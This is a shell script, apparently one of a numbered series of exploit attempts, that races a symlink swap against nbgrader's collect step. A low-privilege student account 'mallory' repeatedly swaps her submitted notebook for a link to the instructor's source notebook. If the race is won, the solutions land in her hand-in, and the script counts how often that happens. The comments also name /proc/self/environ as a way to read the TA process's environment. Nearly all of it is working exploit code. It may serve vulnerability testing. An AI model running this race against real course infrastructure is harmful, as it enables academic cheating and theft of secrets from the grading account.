#!/bin/sh
# a21c: a21, stopping at the first collection that took the solutions (then a21b grades it)
# a21 (a20 on the notebook): TOCTOU in SafeCollect.do_copy: ignore() lstat()s each name, then shutil.copytree (symlinks=True) checks
# islink() again and copy2() opens the name, following a link. mallory (here uid 65534, owner of her inbound folder)
# swaps a file and a link to /proc/self/environ (the collecting process's, the TA's) with rename() in a loop while the
# TA collects (20 tries). Any collected file holding the canary = a link followed as the TA.
D=/tmp/attack38-root-a21c; rm -rf $D; mkdir -p $D; cp CLONE/nbgrader_config.py $D/; cp -r CLONE/source CLONE/release $D/
IN=$D/exchange/distcourse/inbound; mkdir -p $IN; chmod 755 $D $D/exchange $D/exchange/distcourse $IN
M="$IN/mallory+ps1_memory+2024-01-01 00:00:00.000000 UTC+m1"; mkdir -p "$M"; chown 65534:65534 "$M"
cp CLONE/release/ps1_memory/ps1_memory.ipynb "$M/"; chown 65534 "$M/ps1_memory.ipynb"
setpriv --reuid 65534 --regid 65534 --clear-groups python3 -c "
import os, time
d = '$M'; t = time.time(); REL = open('CLONE/release/ps1_memory/ps1_memory.ipynb').read()
while time.time() - t < 40:
    try: os.symlink('/tmp/attack38-root-a21c/source/ps1_memory/ps1_memory.ipynb', d + '/.l'); os.rename(d + '/.l', d + '/ps1_memory.ipynb')
    except OSError: pass
    try: open(d + '/.f', 'w').write(REL); os.rename(d + '/.f', d + '/ps1_memory.ipynb')
    except OSError: pass
" &
R=$!
hits=0
for i in $(seq 1 20); do [ "$hits" -gt 0 ] && break
  rm -rf $D/submitted
  (cd $D && PATH=CLONE/.venv/bin:$PATH DATABASE_URL=postgresql://ta:secret@localhost/x timeout 60 CLONE/.venv/bin/nbgrader collect ps1_memory --Exchange.root=$D/exchange --ExchangeCollect.check_owner=False >/dev/null 2>&1)
  f=$D/submitted/mallory/ps1_memory/ps1_memory.ipynb
  if [ -f "$f" ] && [ ! -L "$f" ] && grep -q "BEGIN SOLUTION" "$f"; then hits=$((hits+1)); echo "try $i: the collected hand-in is the source notebook (solutions)"; fi
done
kill $R 2>/dev/null; wait $R 2>/dev/null
echo "tries that collected the solutions as mallory's hand-in: $hits of 20"
